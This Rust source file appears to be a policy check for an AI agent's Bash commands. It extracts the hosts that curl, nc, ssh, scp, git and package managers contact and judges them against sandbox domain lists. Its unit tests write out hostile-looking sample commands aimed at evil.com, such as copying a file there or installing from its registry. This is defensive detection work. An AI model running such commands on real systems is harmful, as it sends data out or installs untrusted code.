//! The hosts a Bash command names, checked against the policy's domain
//! lists as srt's proxy decides them ([`crate::drift::access::srt_network`]):
//! a host under `deniedDomains` is a deny, one not in `allowedDomains` an
//! ask (in the sandbox mode the command runs inside srt instead, whose
//! proxy refuses it). Hosts are read from what the text names:
//!
//! - `curl`, `wget`, `http`/`https` (HTTPie), `aria2c`: every word with
//!   `://`, and the value of curl's `--url`;
//! - `nc`, `ncat`, `netcat`, `telnet`, `socat`-less raw clients: the first
//!   operand;
//! - `ssh`, `sftp`: the first operand (`[user@]host`, `ssh://...`), past
//!   the options that take a value; `scp`, `rsync`: each `[user@]host:path`;
//! - `git clone|fetch|pull|push|ls-remote|remote add|submodule add`: each
//!   URL (`://` or `[user@]host:path`);
//! - package managers' registry options (`--registry`, `--index-url`, `-i`,
//!   `--extra-index-url`).
//!
//! A host the text does not determine (`curl $U`) is not judged here: the
//! analysis asks about the undetermined word, and in the sandbox mode srt
//! holds it.

use serde_json::Value;

use super::operands::Arg;
use super::{Event, Verdict};
use crate::drift::access::{self, Verdict as Layer};

/// The verdict on the hosts `event`'s Bash command names under the srt
/// document `srt`: the first denied host's deny, else the first host not
/// allowed's ask, else pass.
pub fn judge(event: &Event, srt: &Value) -> Verdict {
    let Some(command) = event
        .tool_input
        .get("command")
        .and_then(Value::as_str)
        .filter(|_| event.tool_name == "Bash")
    else {
        return Verdict::Pass;
    };
    let mut verdict = Verdict::Pass;
    for words in super::bash::simple_commands(command) {
        let words: Vec<&str> = words
            .iter()
            .map(|a| match a {
                Arg::Lit(t) => t.as_str(),
                Arg::Unknown(_) => "",
            })
            .collect();
        for host in hosts(&words) {
            let decision = access::srt_network(srt, &host);
            let program = words.first().copied().unwrap_or("");
            let v = match (decision.verdict, decision.list.as_deref()) {
                (Layer::Allow, _) => continue,
                (_, Some(list)) if list.contains("denied") => Verdict::Deny(format!(
                    "twsrt: {program} connects to {host}, which the policy's deniedDomains \
                     entry {} covers",
                    decision.rule.as_deref().unwrap_or("?")
                )),
                _ => Verdict::Ask(format!(
                    "twsrt: {program} connects to {host}, which is not in the policy's \
                     allowedDomains"
                )),
            };
            verdict = verdict.stricter(v);
        }
    }
    verdict
}

/// The hosts one simple command (its literal words; `""` for a word the
/// text does not determine) names.
pub fn hosts(words: &[&str]) -> Vec<String> {
    let Some((&name, args)) = words.split_first() else {
        return Vec::new();
    };
    let name = name.rsplit('/').next().unwrap_or(name);
    let mut out = Vec::new();
    match name {
        "curl" | "wget" | "http" | "https" | "aria2c" | "xh" => {
            let mut prev = "";
            for w in args {
                if w.contains("://") || prev == "--url" {
                    out.extend(url_host(w));
                }
                prev = w;
            }
        }
        "nc" | "ncat" | "netcat" | "telnet" => {
            out.extend(operands(args, "psqwixXIOe").first().map(|h| h.to_string()));
        }
        "ssh" | "sftp" => {
            if let Some(target) = operands(args, "bcDEeFIiJLlmOoPpQRSWw").first() {
                out.extend(url_host(target).or_else(|| Some(user_host(target).to_string())));
            }
        }
        "scp" | "rsync" => {
            out.extend(
                operands(args, "cFiJloPSe")
                    .iter()
                    .filter_map(|w| url_host(w).or_else(|| remote_path_host(w))),
            );
        }
        "git" => {
            let sub = args.iter().find(|w| !w.starts_with('-')).copied();
            if matches!(
                sub,
                Some("clone" | "fetch" | "pull" | "push" | "ls-remote" | "remote" | "submodule")
            ) {
                out.extend(
                    args.iter()
                        .filter_map(|w| url_host(w).or_else(|| remote_path_host(w))),
                );
            }
        }
        _ => {}
    }
    if matches!(
        name,
        "npm" | "pnpm" | "yarn" | "npx" | "pip" | "pip3" | "uv" | "poetry" | "gem" | "cargo"
    ) {
        let mut prev = "";
        for w in args {
            let value = [
                "--registry",
                "--index-url",
                "--extra-index-url",
                "-i",
                "--index",
            ]
            .iter()
            .find_map(|o| {
                w.strip_prefix(&format!("{o}="))
                    .or((prev == *o).then_some(*w))
            });
            out.extend(value.and_then(url_host));
            prev = w;
        }
    }
    out.retain(|h| !h.is_empty());
    out
}

/// The operands of a command whose short options `valued` take a value
/// (the next word when not attached).
fn operands<'a>(args: &[&'a str], valued: &str) -> Vec<&'a str> {
    let mut out = Vec::new();
    let mut skip = false;
    for w in args {
        if skip {
            skip = false;
        } else if *w == "--" {
            continue;
        } else if let Some(flags) = w.strip_prefix('-').filter(|f| !f.is_empty()) {
            let last = flags.chars().last().unwrap_or(' ');
            skip = !flags.starts_with('-') && flags.len() == 1 && valued.contains(last);
        } else {
            out.push(*w);
        }
    }
    out
}

/// The host of a URL (`scheme://[user@]host[:port][/...]`).
fn url_host(url: &str) -> Option<String> {
    let (_, rest) = url.split_once("://")?;
    let authority = rest.split(['/', '?', '#']).next().unwrap_or("");
    let host = user_host(authority);
    let host = if let Some(v6) = host.strip_prefix('[') {
        v6.split(']').next().unwrap_or("")
    } else {
        host.rsplit_once(':').map_or(host, |(h, _)| h)
    };
    Some(host.to_ascii_lowercase())
}

/// `host` of `user@host`.
fn user_host(text: &str) -> &str {
    text.rsplit_once('@').map_or(text, |(_, h)| h)
}

/// The host of an scp-style `[user@]host:path` (not a local path with a
/// `/` before the `:`).
fn remote_path_host(word: &str) -> Option<String> {
    let (head, _) = word.split_once(':')?;
    let host = user_host(head);
    (!host.is_empty() && !host.contains('/') && !word.starts_with('/'))
        .then(|| host.to_ascii_lowercase())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn each_client_names_its_hosts() {
        for (command, want) in [
            (
                "curl -s https://pastebin.com/raw/x -o out.txt",
                &["pastebin.com"][..],
            ),
            ("curl --url http://User@Evil.com:8080/p", &["evil.com"]),
            ("wget -q http://[::1]:80/x", &["::1"]),
            ("nc -w 3 evil.com 443", &["evil.com"]),
            ("ssh -p 22 -i key git@evil.com ls", &["evil.com"]),
            ("ssh ssh://me@evil.com:2222", &["evil.com"]),
            ("scp ./f me@evil.com:/tmp/f", &["evil.com"]),
            ("rsync -a dir/ evil.com:dir", &["evil.com"]),
            ("git clone https://github.com/a/b", &["github.com"]),
            ("git push git@evil.com:a/b.git main", &["evil.com"]),
            ("git remote add x ssh://evil.com/r", &["evil.com"]),
            ("npm install --registry https://evil.com/ x", &["evil.com"]),
            (
                "pip install --index-url=https://evil.com/simple x",
                &["evil.com"],
            ),
            ("pip install -i https://evil.com/simple x", &["evil.com"]),
            ("git log --oneline", &[]),
            ("cat a:b", &[]),
            ("curl -o out.txt", &[]),
        ] {
            let words: Vec<&str> = command.split(' ').collect();
            assert_eq!(hosts(&words), want, "{command}");
        }
    }
}
